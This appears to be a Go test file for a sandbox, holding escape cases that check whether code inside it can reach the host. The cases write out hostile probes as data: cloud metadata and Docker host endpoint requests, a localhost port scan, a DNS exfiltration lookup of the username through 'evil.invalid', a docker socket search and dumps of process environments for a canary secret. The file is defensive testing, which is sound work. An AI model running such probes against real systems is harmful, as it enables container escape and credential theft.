package abuse

import (
	"context"
	"fmt"
	"net"
	"os"
	"strings"
)

// canary is a secret of the host that must be nowhere in a sandbox.
const (
	canaryName  = "DRYDOCK_ABUSE_CANARY_KEY"
	canaryValue = "canary-6f1d2c9ab4"
)

// networkCases try to reach anything, and to find something worth taking there.
func networkCases() []Case {
	const connect = `import socket
def reach(where, port, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    try:
        s = socket.socket(family, kind); s.settimeout(2); s.connect((where, port)); s.send(b"x")
        if kind == socket.SOCK_DGRAM: s.recv(1)
        print("reached", where, port)
    except OSError: pass
`
	like := Case{Tool: Interpreter, Expect: fine, Check: silent}
	list := numbered("net-reach", like, []string{
		"reach('1.1.1.1', 53)", "reach('8.8.8.8', 53, kind=socket.SOCK_DGRAM)", "reach('169.254.169.254', 80)", "reach('100.100.100.200', 80)", "reach('fd00:ec2::254', 80, socket.AF_INET6)", "reach('2606:4700::1111', 443, socket.AF_INET6)",
		"for p in (22, 80, 2375, 2376, 5000, 8080): reach('172.17.0.1', p)", "for h in ('10.0.0.1', '192.168.0.1', '192.168.1.1', '172.18.0.1'): reach(h, 80)", "reach('::ffff:169.254.169.254', 80, socket.AF_INET6)",
		"for p in range(1, 2000): reach('127.0.0.1', p)", "reach('255.255.255.255', 9, kind=socket.SOCK_DGRAM)", "reach('224.0.0.251', 5353, kind=socket.SOCK_DGRAM)",
	})
	for i := range list {
		list[i].Tries, list[i].Input = "to connect: "+list[i].Input, connect+list[i].Input
	}
	names := numbered("net-name", Case{Expect: ended, Check: silent}, []string{
		"getent hosts example.com", "getent hosts metadata.google.internal", "getent hosts $(whoami).evil.invalid", "getent hosts host.docker.internal", "getent hosts gateway.docker.internal",
	})
	return append(append(list, names...),
		Case{ID: "net-devices", Tries: "to find a network device", Input: "ls /sys/class/net; cat /proc/net/route | tail -n +2; cat /proc/net/arp | tail -n +2", Expect: fine, Check: prints("lo\n")},
		Case{ID: "net-raw", Tries: "raw packets", Tool: Interpreter, Input: "import socket\nfor a in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 12)):\n    try: socket.socket(*a); print('raw', a)\n    except OSError: pass", Expect: fine, Check: lacks("raw (<AddressFamily.AF_INET", "AF_PACKET")},
		Case{ID: "net-vsock", Tries: "to speak to the machine's own host", Tool: Interpreter, Input: "import socket\nfor cid in (0, 1, 2, 3):\n    try:\n        s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((cid, 22)); print('reached', cid)\n    except (OSError, AttributeError): pass", Expect: fine, Check: silent},
		Case{ID: "net-sockets", Tries: "to find a socket of the host", Input: "find / -xdev -type s 2>/dev/null; ls -d /var/run/docker.sock /run/docker.sock /run/containerd 2>/dev/null; grep -a @ /proc/net/unix; true", Expect: fine, Check: silent},
		Case{ID: "net-host-loopback", Tries: "to reach a service of the host", Tool: Go, Expect: fine, Play: hostService},
		Case{ID: "host-secrets", Tries: "to find a secret of the host", Tool: Go, Expect: fine, Play: hunt},
		Case{ID: "host-mounts", Tries: "to find a directory of the host", Input: `awk '{print $5, $4}' /proc/self/mountinfo | grep -vE '^(/|/proc.*|/dev.*|/sys.*|/.drydock/run) ' | grep -vE '^/etc/(resolv.conf|hostname|hosts) '; true`, Expect: fine, Check: silent},
		Case{ID: "host-names", Tries: "to find out about the host", Input: "hostname; cat /etc/hostname; ls /proc | grep -cE '^[0-9]+$' | { read n; [ $n -lt 20 ] && echo own; }", Expect: fine, Check: prints("sandbox\nsandbox\nown\n")},
		Case{ID: "host-arguments", Tries: "to read the supervisor's arguments", Input: "tr '\\0' ' ' </proc/1/cmdline", Expect: ended, Check: lacks(canaryValue)},
		Case{ID: "host-gvisor", Tries: "a runtime that is not the one asked for", Input: "dmesg | grep -q gVisor && echo guarded", Expect: fine, Check: prints("guarded\n"), Not: map[string]string{"runc": "it has the host's kernel"}},
	)
}

// hostService listens on every address of the host and waits for a visit.
func hostService(ctx context.Context, s *Stage) Outcome {
	var listen net.ListenConfig
	l, err := listen.Listen(ctx, "tcp", ":0")
	if err != nil {
		return broken("listen: %v", err)
	}
	defer l.Close()
	addresses, err := net.InterfaceAddrs()
	if err != nil {
		return broken("list addresses: %v", err)
	}
	var hosts []string
	for _, a := range addresses {
		hosts = append(hosts, fmt.Sprintf("%q", strings.Split(a.String(), "/")[0]))
	}
	_, port, _ := net.SplitHostPort(l.Addr().String())
	res, err := s.Python(ctx, "import socket\nfor h in ["+strings.Join(hosts, ",")+"]:\n    try: socket.create_connection((h, "+port+"), 2); print('reached', h)\n    except OSError: pass", quickly, true)
	if len(res.Head) > 0 {
		return broken("%s", res.Head)
	}
	return outcome(res, err)
}

// hunt looks for a secret that this process has in its environment, inside and
// in what the engine shows.
func hunt(ctx context.Context, s *Stage) Outcome {
	if err := os.Setenv(canaryName, canaryValue); err != nil {
		return broken("set the canary: %v", err)
	}
	defer func() { _ = os.Unsetenv(canaryName) }()
	fresh, err := s.client.Create(ctx, s.engine, s.ID()+"-canary", s.Policy())
	if err != nil {
		return did(err)
	}
	defer func() { _ = fresh.Close(ctx) }()
	shown, err := s.Outside.Inspect(ctx, fresh.ID())
	if err != nil {
		return did(err)
	}
	if strings.Contains(shown, canaryValue) {
		return broken("the engine shows it")
	}
	res, err := fresh.Shell(ctx, "env; export -p; cat /proc/*/environ /proc/*/cmdline /proc/self/mountinfo /etc/environment 2>/dev/null | tr '\\0' '\\n'; grep -rl canary-6f1d /home /tmp /workspace /etc /run /.drydock/output 2>/dev/null; true", quickly, false)
	if text := string(res.Head) + string(res.Tail); strings.Contains(strings.ReplaceAll(text, "canary-6f1d /home", ""), "canary") {
		return broken("found it: %.200q", text)
	}
	return outcome(res, err)
}
